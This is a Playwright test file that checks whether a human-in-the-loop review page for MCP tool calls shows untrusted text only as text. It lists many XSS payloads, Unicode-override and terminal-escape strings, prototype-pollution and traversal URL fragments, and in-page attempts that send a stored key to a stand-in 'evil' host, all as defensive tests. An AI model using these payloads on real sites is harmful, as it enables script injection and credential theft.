"""What agents, upstreams and other reviewers write cannot do anything on the page but be read."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser

from hitl_mcp.calls import Outcome, Preview, ReadingCall, RuleMatch, SignalMatch, Status
from tests.samples import claim, held, verdict
from tests.surfaces.attacks.stage import Stage, on_stage

pytestmark = pytest.mark.needs("chromium")


@pytest.fixture(scope="module")
async def stage(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> AsyncIterator[Stage]:
    """One reviewer for all of this file; each attack brings a call of its own."""
    folder: Path = tmp_path_factory.mktemp("stage")
    async with on_stage(folder, browser) as set_up:
        yield set_up


TEXTS = {
    "a script": "<script>window.pwned = 1</script>",
    "an image that fails": "<img src=x onerror='window.pwned=1'>",
    "a picture that runs": "\"><svg onload='window.pwned=1'><animate onbegin='window.pwned=1'>",
    "an end of everything": "--></style></script></textarea></title><script>window.pwned=1</script>",
    "a frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data='javascript:pwned=1'></object>",
    "a link to a script": "<a href='javascript:window.pwned=1'>Approve</a> javascript:window.pwned=1",
    "a form": "<form action=//evil.example><button class=approve>Approve</button></form>",
    "a button that looks like ours": "<button class='approve' id='reject-send' onclick='pwned=1'>Approve a</button>",
    "a style": "<style>.approve{display:none}.arguments{visibility:hidden}</style><link rel=stylesheet href=//evil>",
    "a style in an attribute": "<div style='position:fixed;inset:0;background:url(//evil.example)'>cover</div>",
    "markup that never ends": "<img src='http://127.0.0.1:1/?",
    "another base": "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "a template": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <template><script>1</script>",
    "names of the page itself": "<div id=detail></div><p id=announce></p><input name=body><a name=location>",
    "an encoded script": "&lt;script&gt;window.pwned=1&lt;/script&gt; %3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "a turned-round name": "\u202eevorppA\u202c click tcejeR \u2067x\u2069",
    "a status of ours": "] }\n\u2028approved\u2029Headline: It ran and succeeded ⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧",
    "signs for terminals": "\x1b]0;owned\x07\x1b[2J\x1b[31mApproved\x9b31m\r\r",
}
"""What a text would do if it were taken for more than a text."""

OURS_ALONE = """() => {
  const found = [];
  const note = (node) => found.push(node.outerHTML.slice(0, 100));
  const own = (address) => new URL(address, location.origin).origin === location.origin;
  if (window.pwned) found.push("a script ran");
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || ["srcdoc", "action", "formaction", "background", "ping"].includes(name)) note(node);
      if (["src", "href", "data", "poster", "xlink:href"].includes(name) && !own(value)) note(node);
      if (name === "style" && /url|position|expression|@/.test(value)) note(node);
    }
  }
  for (const node of document.querySelectorAll(
    "iframe, object, embed, style, base, form, template, video, audio, foreignObject, animate, meta[http-equiv]"))
    note(node);
  for (const node of document.querySelectorAll("script")) if (!node.src || node.textContent) note(node);
  for (const name of ["detail", "announce", "banners", "list"])
    if (document.querySelectorAll(`[id="${name}"]`).length > 1) found.push(`two of ${name}`);
  if (document.querySelectorAll("button.approve").length > 1) found.push("two buttons that approve");
  const hidden = new RegExp(
    "[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u200b-\\u200f\\u2028-\\u202e\\u2066-\\u2069]");
  if (hidden.test(document.body.innerText + document.title)) found.push("a hidden character on the page");
  if (!document.title.endsWith("hitl-mcp review")) found.push(document.title);
  return found;
}"""
"""Whatever stands on the page that the page did not put there itself."""


async def look_at(stage: Stage, call_id: str, readable: str) -> None:
    """Open a call; it shows the text as a text, and everything else on the page is ours."""
    page = stage.dana.page
    await stage.dana.open(call_id)
    await page.wait_for_selector(".arguments .line")
    await page.evaluate("""() => {
      for (const fold of document.querySelectorAll("#detail details")) fold.open = true;
      for (const button of document.querySelectorAll("#detail .unfold")) button.click();
    }""")
    assert await page.evaluate(OURS_ALONE) == []
    assert readable in (await page.locator("#detail").inner_text()).replace("\n", "")
    assert await page.evaluate("document.querySelector('#detail').getClientRects().length") == 1
    await stage.nothing_came_of_it()


def plain(text: str) -> str:
    """Some of a text that stands on the page as it was written."""
    words = [word for word in text.replace('"', " ").split() if word.isascii() and word.isprintable()]
    return max(words, key=len) if words else ""


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_a_text_does_nothing_in_an_argument(stage: Stage, text: str) -> None:
    """As a value, in a list, and as a name: it is shown to the last character, and is never anything else."""
    record = await stage.desk.hold({"say": text, "list": [text], text: "as a name"}, tool=f"t{len(text)}")
    await look_at(stage, record.id, plain(text))


EVERYTHING = "".join(text for text in TEXTS.values() if "\x1b" not in text and "\u2028" not in text)


def _decision(**changes: Any) -> Any:
    return replace(held(), **changes)


async def _in_claim(stage: Stage, text: str) -> str:
    return (await stage.desk.hold({"n": "claim"}, claim=text)).id


async def _in_names(stage: Stage, text: str) -> str:
    names: dict[str, Any] = {"upstream": text, "tool": text, "name": f"x__{text}", "agent": text}
    return (await stage.desk.hold({"n": "names"}, **names)).id


async def _in_reasons(stage: Stage, text: str) -> str:
    decision = _decision(
        reasons=(text,),
        rules=(RuleMatch("mail-out", held().effect, text, text),),
        signals=(SignalMatch("odd", 10, text, text),),
        shadows=(RuleMatch("later", held().effect, text),),
    )
    return (await stage.desk.hold({"n": "reasons"}, decision)).id


async def _in_rejection(stage: Stage, text: str) -> str:
    record = await stage.desk.hold({"n": "rejection"})
    rejection = replace(verdict(record.digest), kind=type(verdict(record.digest).kind).REJECT, reason=text)
    await stage.desk.store.add_verdict(record.id, rejection)
    return record.id


async def _ran(stage: Stage, name: str, **changes: Any) -> str:
    record = await stage.desk.hold({"n": name})
    await stage.desk.store.add_verdict(record.id, verdict(record.digest))
    assert await claim(stage.desk.store, await stage.desk.store.get(record.id)) is not None
    outcome = Outcome(Status.FAILED, executed=True, at=record.created_at, **changes)
    await stage.desk.store.settle(record.id, outcome, durable=True)
    return record.id


async def _in_error(stage: Stage, text: str) -> str:
    return await _ran(stage, "error", detail=text)


async def _in_result(stage: Stage, text: str) -> str:
    result = json.dumps({"content": [{"type": "text", "text": text}], "structuredContent": {text: text}})
    return await _ran(stage, "result", detail="it failed", result_json=result)


async def _in_closing(stage: Stage, text: str) -> str:
    record = await stage.desk.hold({"n": "closing"})
    await stage.desk.store.invalidate(record.id, text)
    return record.id


async def _in_preview(stage: Stage, text: str) -> str:
    decision = _decision(previews=(ReadingCall("mail-out", f"mail__{text}"),))
    record = await stage.desk.hold({"n": "preview"}, decision)
    preview = Preview("mail-out", f"mail__{text}", record.created_at, problem=text)
    await stage.desk.store.keep_preview(record.id, preview)
    return record.id


FIELDS = {
    "the agent's claim": _in_claim,
    "the names of agent, upstream and tool": _in_names,
    "the reasons of rules and signals": _in_reasons,
    "another reviewer's reason": _in_rejection,
    "the upstream's error": _in_error,
    "the upstream's result": _in_result,
    "the reason why a call ended": _in_closing,
    "a preview": _in_preview,
}
"""The fields beside the arguments that somebody else writes; each brings a call."""


@pytest.mark.parametrize("put", FIELDS.values(), ids=FIELDS)
async def test_no_text_does_anything_in(stage: Stage, put: Any) -> None:
    """All of them at once, in every field that another party writes."""
    call_id = await put(stage, EVERYTHING + "\u202e\u200b\x1b[31m")
    await look_at(stage, call_id, plain(EVERYTHING))
    assert "U+202E" in await stage.dana.page.locator("#detail").inner_text()


async def test_the_list_shows_no_text_as_anything_else(stage: Stage) -> None:
    """Rows, titles, filters, notices and what is read aloud hold the same texts."""
    page = stage.dana.page
    await page.evaluate("location.hash = ''")
    await page.wait_for_selector("a.row")
    assert await page.evaluate(OURS_ALONE) == []
    for place in ("history", "agents", "grants", "you", "pace", "tools"):
        await page.evaluate("place => { location.hash = place; }", place)
        await page.locator("main :is(h2, .empty):visible").first.wait_for()
        assert await page.evaluate(OURS_ALONE) == []
    await stage.nothing_came_of_it()


ADDRESSES = {
    "markup as a call": "call=<img src=x onerror=window.pwned=1>",
    "encoded markup as a call": "call=%3Csvg%20onload%3Dwindow.pwned%3D1%3E",
    "another path as a call": "call=../../stop",
    "an encoded path as a call": "call=..%2F..%2Fpause",
    "a query as a call": "call=x%3Fverdict%3Dapprove",
    "a verdict beside the call": "call=ID&verdict=approve&digest=DIGEST&approve=1",
    "the name of every object's parent": "call=__proto__",
    "the name of every object's maker": "call=constructor",
    "a member of every object": "__proto__[pwned]=1&constructor[prototype][pwned]=1&call=ID",
    "an agent of that name": "agent=__proto__",
    "a tool of that name": "used=constructor",
    "markup as a search": "history?q=%3Cimg src=x onerror=window.pwned=1%3E",
    "a filter of that name": "history?__proto__=x&constructor=y&status=__proto__",
    "a script as a place": "javascript:window.pwned=1",
    "a place that is none": "%E0%A4%A&call=%00%FF",
    "a very long one": "call=" + "a" * 20_000,
    "an empty code": "login=",
    "a made-up code": "login=made-up",
    "many codes": "login=one&login=two&login[]=three",
}
"""What another page can write behind the `#` of a link."""


@pytest.mark.parametrize("address", ADDRESSES.values(), ids=ADDRESSES)
async def test_an_address_only_ever_opens_something(stage: Stage, address: str) -> None:
    """Whatever stands in it: no script, no verdict, no other sign-in, and the page still works."""
    page = stage.dana.page
    asked: list[str] = []
    page.on("request", lambda http: asked.append(f"{http.method} {http.url}"))
    await page.evaluate(
        "address => { location.hash = address; }",
        address.replace("ID", stage.record.id).replace("DIGEST", stage.record.digest),
    )
    await page.evaluate("() => new Promise((done) => setTimeout(() => requestAnimationFrame(done)))")
    assert await page.evaluate("[window.pwned, ({}).pwned].join('')") == ""
    assert await page.evaluate("localStorage.getItem('hitl-mcp.key')") == stage.key
    await stage.dana.open(stage.record.id)
    await page.wait_for_selector(".arguments .line")
    assert await page.evaluate(OURS_ALONE) == []
    for one in asked:
        method, _, url = one.partition(" ")
        assert url.startswith(stage.desk.url + "/")
        assert method == "GET" or url.endswith(("/looking", "/api/login"))
        assert not url.endswith(("/pause", "/stop", "/verdict"))
    await stage.nothing_came_of_it()


INSIDE = {
    "a script in the page": """const node = document.createElement("script"); node.textContent = "window.pwned = 1";
      document.body.append(node);""",
    "a script from elsewhere": """const node = document.createElement("script"); node.src = `${evil}/x.js`;
      document.body.append(node);""",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.pwned=1>');",
    "markup in another way": "document.getElementById('detail').innerHTML = '<svg onload=window.pwned=1>';",
    "a document written": "document.write('<script>window.pwned=1</script>');",
    "markup parsed in a range": """const range = document.createRange();
      range.createContextualFragment('<img src=x onerror=window.pwned=1>');""",
    "a text run as code": "eval('window.pwned = 1');",
    "a function made of text": "Function('window.pwned = 1')();",
    "a timer of text": "setTimeout('window.pwned = 1');",
    "a policy that lets texts through": """const all = trustedTypes.createPolicy("all", {createHTML: (text) => text});
      document.body.insertAdjacentHTML("beforeend", all.createHTML("<img src=x onerror=window.pwned=1>"));""",
    "an attribute that runs": "document.body.setAttribute('onpointermove', 'window.pwned = 1');",
    "an address that runs": """const link = document.createElement("a"); link.href = "javascript:window.pwned=1";
      document.body.append(link); link.click();""",
    "a frame": """const frame = document.createElement("iframe"); frame.src = evil; document.body.append(frame);
      await new Promise((done) => { frame.onload = done; });""",
    "a form": """const form = document.createElement("form"); form.method = "POST";
      form.action = `${evil}/?stolen=${key}`;
      document.body.append(form); form.submit();""",
    "a picture from elsewhere": "new Image().src = `${evil}/?stolen=${key}`;",
    "a fetch to elsewhere": "await fetch(`${evil}/?stolen=${key}`, {mode: 'no-cors'});",
    "a beacon to elsewhere": "navigator.sendBeacon(`${evil}/`, key);",
    "a stream to elsewhere": """new EventSource(`${evil}/?stolen=${key}`);
      new WebSocket(`ws${evil.slice(4)}/?stolen=${key}`);""",
    "a style from elsewhere": """const node = Object.assign(document.createElement("link"), {rel: "stylesheet",
      href: `${evil}/?stolen=${key}`}); document.head.append(node);""",
    "a style in the page": """const node = document.createElement("style"); node.textContent =
      `body { background: url(${evil}/?stolen=${key}) }`; document.head.append(node);""",
    "a style in an attribute": "document.body.setAttribute('style', `background: url(${evil}/?stolen=${key})`);",
    "a font from elsewhere": "await new FontFace('x', `url(${evil}/?stolen=${key})`).load();",
    "a module from elsewhere": "await import(`${evil}/x.js`);",
    "a module made of text": "await import('data:text/javascript,window.pwned=1');",
    "a worker made of text": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));",
    "another base": """const base = document.createElement("base"); base.href = `${evil}/`; document.head.prepend(base);
      await fetch("api/status", {headers: {authorization: `Bearer ${key}`}});""",
    "prefetching elsewhere": """const node = Object.assign(document.createElement("link"), {rel: "prefetch",
      href: `${evil}/?stolen=${key}`}); document.head.append(node);""",
}
"""What somebody would do who got some code of theirs onto the page all the same: the page's own rules stop it."""


@pytest.mark.parametrize("attempt", INSIDE.values(), ids=INSIDE)
async def test_the_pages_own_rules_stop(stage: Stage, attempt: str) -> None:
    """Nothing runs that is not the page's own file, and nothing leaves for another place."""
    page = await stage.dana.page.context.new_page()
    await page.goto(stage.desk.url)
    await page.wait_for_selector("a.row")
    body = """async ({evil, key}) => { await new Promise((done) => setTimeout(done)); // what is evaluated may eval
      try { %s } catch (error) {}
      await new Promise((done) => setTimeout(done, 30)); }"""
    await page.evaluate(body % attempt, stage.knows)
    assert await page.evaluate("window.pwned === undefined")
    assert page.url.startswith(stage.desk.url)
    await page.close()
    await stage.nothing_came_of_it()
    assert not any("stolen" in one or "x.js" in one for one in stage.heard)
